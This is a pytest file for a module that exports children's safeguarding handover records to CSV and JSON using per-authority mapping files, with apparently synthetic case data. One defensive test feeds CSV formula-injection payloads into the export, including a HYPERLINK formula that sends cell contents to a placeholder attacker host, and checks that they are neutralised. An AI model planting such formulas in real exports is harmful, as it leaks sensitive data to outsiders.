"""In-hours exports: mappings load or fail clearly; records render as the system expects."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from handover.records.export import (
    ExportMapping,
    MappingError,
    find_mapping,
    load_mapping,
    load_mappings,
    render_csv,
    render_json,
)

ROOT = Path(__file__).parents[2]
REFERENCE = "HO-2026-000123"
HEAD = 'system = "lcs"\nlocal_authority = "southmoor"\n'


@pytest.fixture
def record() -> dict[str, Any]:
    """The reference handover, a fresh copy per test."""
    with (ROOT / "tests" / "fixtures" / "reference-handover.json").open(encoding="utf-8") as f:
        loaded: dict[str, Any] = json.load(f)
    return loaded


@pytest.fixture
def mosaic() -> ExportMapping:
    """The shipped Northvale Mosaic mapping."""
    mapping = find_mapping(
        load_mappings(ROOT / "config" / "exports"), local_authority="northvale", system="mosaic"
    )
    assert mapping is not None
    return mapping


def write_mapping(directory: Path, text: str, name: str = "southmoor-lcs.toml") -> Path:
    """Write a mapping file and return its path."""
    path = directory / name
    path.write_text(text, encoding="utf-8")
    return path


def one_field(directory: Path, body: str, **top: str) -> ExportMapping:
    """Load a mapping with one record-level column described by ``body``."""
    extra = "".join(f"{key} = {value}\n" for key, value in top.items())
    return load_mapping(write_mapping(directory, f'{HEAD}{extra}[[fields]]\nname = "X"\n{body}'))


def parse_csv(text: str) -> list[list[str]]:
    """Parse CSV text back into rows, as an importer would."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_shipped_mappings_all_load() -> None:
    mappings = load_mappings(ROOT / "config" / "exports")

    assert ("northvale", "mosaic") in mappings
    shipped = {path.name for path in (ROOT / "config" / "exports").glob("*.toml")}
    assert {Path(m.source).name for m in mappings.values()} == shipped


def test_find_mapping_matches_la_and_system_only(mosaic: ExportMapping) -> None:
    mappings = {(mosaic.local_authority, mosaic.system): mosaic}

    assert find_mapping(mappings, local_authority="northvale", system=" Mosaic ") is mosaic
    assert find_mapping(mappings, local_authority="bristol", system="mosaic") is None
    assert find_mapping(mappings, local_authority="northvale", system="eclipse") is None


def test_json_carries_coded_record_fields(mosaic: ExportMapping, record: dict[str, Any]) -> None:
    fields = render_json(mosaic, record, reference=REFERENCE)["fields"]

    assert fields["ExternalReference"] == REFERENCE
    assert fields["ContactOrigin"] == "EDT"
    assert fields["ContactSource"] == "POL"
    assert fields["ContactReasons"] == "SUDI;NEG"
    assert fields["ThresholdLevel"] == "4"
    assert fields["Priority"] == "RED"
    assert fields["StratDiscOutcome"] == "S47J"
    assert fields["StratDiscHeld"] is True
    assert fields["StratDiscAttendees"] == "Marcus Bell; DS Priya Okafor; Dr Helen Achterberg"
    assert fields["PoliceCrimeRef"] == "WS/26/118734"
    assert fields["ContactDateTime"] == "28/11/2026 02:10"
    assert fields["HandoverSummary"] == record["summary"]


def test_json_has_one_entry_per_child(mosaic: ExportMapping, record: dict[str, Any]) -> None:
    exported = render_json(mosaic, record, reference=REFERENCE)
    people = exported["people"]

    assert exported["system"] == "mosaic" and exported["reference"] == REFERENCE
    assert [p["Forename"] for p in people] == ["Jaylen", "Tianna", "Malik", "Shanice", "Kai", "Ava"]
    assert people[0]["NHSNumber"] == "9995908301"
    assert people[0]["PersonID"] == "NV-4410982"
    assert people[0]["DateOfBirth"] == "24/07/2026"
    assert people[0]["Gender"] == "M" and people[1]["Gender"] == "F"
    assert people[0]["Deceased"] is True
    assert people[5]["Surname"] == "Marsh-Cole"


def test_each_child_gets_their_own_safety_plan(
    mosaic: ExportMapping, record: dict[str, Any]
) -> None:
    people = render_json(mosaic, record, reference=REFERENCE)["people"]

    assert people[0]["SafetyPlan"] is None  # Jaylen died: no safety plan
    assert people[2]["SafetyPlan"] == record["safety_plans"][1]["arrangements"]
    assert people[4]["SafetyPlanRationale"] == record["safety_plans"][3]["rationale"]
    assert people[1]["SafetyPlanReviewBy"] == "30/11/2026 12:00"


def test_missing_values_are_null_in_json_and_empty_in_csv(
    mosaic: ExportMapping, record: dict[str, Any]
) -> None:
    del record["police"]
    person = render_json(mosaic, record, reference=REFERENCE)["people"][2]
    rows = parse_csv(render_csv(mosaic, record, reference=REFERENCE))
    header = rows[0]

    assert person["PersonID"] is None and person["ExpectedDueDate"] is None
    assert rows[3][header.index("PersonID")] == ""
    assert rows[1][header.index("PoliceCrimeRef")] == ""


def test_csv_has_header_and_one_row_per_child(
    mosaic: ExportMapping, record: dict[str, Any]
) -> None:
    text = render_csv(mosaic, record, reference=REFERENCE)
    rows = parse_csv(text)
    header, body = rows[0], rows[1:]

    assert header == list(mosaic.columns)
    assert header[:4] == ["ExternalReference", "ContactOrigin", "ContactDateTime", "ContactSource"]
    assert len(body) == 6
    assert text.endswith("\r\n") and text.count("\r\n") == 7
    assert {row[header.index("ContactSource")] for row in body} == {"POL"}
    assert [row[header.index("NHSNumber")] for row in body][0] == "9995908301"
    assert [row[header.index("Deceased")] for row in body] == ["Y", "", "", "", "", ""]
    assert body[0][header.index("StratDiscHeld")] == "Y"


def test_csv_round_trips_commas_quotes_and_newlines(
    mosaic: ExportMapping, record: dict[str, Any]
) -> None:
    record["summary"] = 'Line one, with "quotes"\r\nline two'
    rows = parse_csv(render_csv(mosaic, record, reference=REFERENCE))

    assert rows[1][rows[0].index("HandoverSummary")] == 'Line one, with "quotes"\r\nline two'


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?q="&A1,"Open")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tx"],
)
def test_csv_neutralises_formula_injection(
    mosaic: ExportMapping, record: dict[str, Any], text: str
) -> None:
    tampered = copy.deepcopy(record)
    tampered["summary"] = text
    tampered["children"][1]["first_name"] = text
    rows = parse_csv(render_csv(mosaic, tampered, reference=REFERENCE))
    header = rows[0]

    assert rows[1][header.index("HandoverSummary")] == "'" + text
    assert rows[2][header.index("Forename")] == "'" + text
    assert rows[1][header.index("Forename")] == "Jaylen"
    assert render_json(mosaic, tampered, reference=REFERENCE)["fields"]["HandoverSummary"] == text


def test_record_without_people_gives_one_csv_row(
    mosaic: ExportMapping, record: dict[str, Any]
) -> None:
    record["children"] = []
    rows = parse_csv(render_csv(mosaic, record, reference=REFERENCE))

    assert len(rows) == 2
    assert rows[1][rows[0].index("ContactSource")] == "POL"
    assert rows[1][rows[0].index("Forename")] == ""
    assert render_json(mosaic, record, reference=REFERENCE)["people"] == []


def test_timestamps_are_written_in_london_time(tmp_path: Path, record: dict[str, Any]) -> None:
    mapping = one_field(tmp_path, 'path = "contact.received_at"\ndate_format = "%d/%m/%Y %H:%M"')
    record["contact"]["received_at"] = "2026-07-01T23:30:00Z"  # BST: already 2 July in London

    assert render_json(mapping, record, reference=REFERENCE)["fields"]["X"] == "02/07/2026 00:30"


def test_unmapped_code_passes_through_when_not_strict(
    tmp_path: Path, record: dict[str, Any]
) -> None:
    mapping = one_field(tmp_path, 'path = "contact.source"\ncodes = { health = "HEA" }')

    assert render_json(mapping, record, reference=REFERENCE)["fields"]["X"] == "police"
    record["contact"]["source"] = "health"
    assert render_json(mapping, record, reference=REFERENCE)["fields"]["X"] == "HEA"


def test_booleans_defaults_and_indexes(tmp_path: Path, record: dict[str, Any]) -> None:
    text = (
        f"{HEAD}"
        '[[fields]]\nname = "Consent"\npath = "consent.obtained"\ntrue = "Yes"\nfalse = "No"\n'
        '[[fields]]\nname = "Chair"\npath = "strategy_discussion.attendees.1.name"\n'
        '[[fields]]\nname = "Gone"\npath = "strategy_discussion.attendees.9.name"\n'
        '[[fields]]\nname = "Outcome"\npath = "medical.outcome"\ndefault = "Awaited"\n'
        '[[fields]]\nname = "Deep"\npath = "contact.source.deeper"\n'
    )
    mapping = load_mapping(write_mapping(tmp_path, text))
    fields = render_json(mapping, record, reference=REFERENCE)["fields"]
    rows = parse_csv(render_csv(mapping, record, reference=REFERENCE))

    assert fields == {
        "Consent": "Yes",
        "Chair": "DS Priya Okafor",
        "Gone": None,
        "Outcome": "Awaited",
        "Deep": None,
    }
    assert rows[1] == ["Yes", "DS Priya Okafor", "", "Awaited", ""]


BAD_MAPPINGS = [
    pytest.param('local_authority = "southmoor"\n[[fields]]\nname = "X"\npath = "a"\n', "system",
                 id="missing-system"),
    pytest.param(f'{HEAD}sytem = "lcs"\n[[fields]]\nname = "X"\npath = "a"\n', "sytem",
                 id="unknown-top-key"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "a"\ncolour = "red"\n',
                 "fields[0] (X).colour", id="unknown-field-key"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "contact..source"\n',
                 "fields[0] (X).path", id="empty-path-segment"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "children[0].sex"\n',
                 "fields[0] (X).path", id="bracket-index"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "@safety_plan.rationale"\n',
                 "fields[0] (X).path", id="person-root-at-record-level"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "contact.source"\ncodes = "POL"\n',
                 "fields[0] (X).codes", id="codes-not-a-table"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "urgency"\ncodes = {{ immediate = 1 }}\n',
                 "fields[0] (X).codes.immediate", id="code-not-a-string"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "urgency"\nvalue = "EDT"\n',
                 "fields[0] (X)", id="path-and-value"),
    pytest.param(f'{HEAD}[[fields]]\npath = "urgency"\n', "fields[0].name", id="no-name"),
    pytest.param(f'{HEAD}[[fields]]\nname = "X"\npath = "a"\n[[fields]]\nname = "X"\npath = "b"\n',
                 "fields[1] (X).name", id="duplicate-column"),
    pytest.param(f'{HEAD}[[person_fields]]\nname = "X"\npath = "first_name"\n', "person_source",
                 id="person-fields-without-source"),
    pytest.param(f'{HEAD}strict = true\n[[fields]]\nname = "X"\npath = "urgency"\n'
                 'codes = { immediate = "1", priority = "2" }\n',
                 "fields[0] (X).codes", id="strict-missing-code"),
    pytest.param(f'{HEAD}strict = true\n[[fields]]\nname = "X"\npath = "urgency"\n'
                 'codes = { immediate = "1", priority = "2", routine = "3", urgnet = "4" }\n',
                 "fields[0] (X).codes", id="strict-unknown-value"),
    pytest.param(f'{HEAD}[[fields]\nname = "X"\n', None, id="not-toml"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "field"), BAD_MAPPINGS)
def test_bad_mapping_names_file_and_field(tmp_path: Path, text: str, field: str | None) -> None:
    write_mapping(tmp_path, text)

    with pytest.raises(MappingError) as failure:
        load_mappings(tmp_path)

    assert "southmoor-lcs.toml" in str(failure.value)
    assert failure.value.field == field
    if field is not None:
        assert field in str(failure.value)


def test_strict_check_follows_person_source(tmp_path: Path) -> None:
    text = (
        f'{HEAD}strict = true\nperson_source = "children"\n'
        '[[person_fields]]\nname = "Sex"\npath = "sex"\ncodes = { female = "F", male = "M" }\n'
    )

    with pytest.raises(MappingError, match=r"person_fields\[0\] \(Sex\)\.codes.*not_stated"):
        load_mapping(write_mapping(tmp_path, text))


def test_duplicate_la_and_system_names_both_files(tmp_path: Path) -> None:
    body = '[[fields]]\nname = "X"\npath = "urgency"\n'
    write_mapping(tmp_path, HEAD + body, "a-first.toml")
    write_mapping(tmp_path, HEAD + body, "b-second.toml")

    with pytest.raises(MappingError) as failure:
        load_mappings(tmp_path)

    assert failure.value.field == "system"
    assert "b-second.toml" in failure.value.file
    assert "a-first.toml" in str(failure.value)


def test_missing_directory_is_a_mapping_error(tmp_path: Path) -> None:
    with pytest.raises(MappingError, match="not a directory"):
        load_mappings(tmp_path / "nowhere")
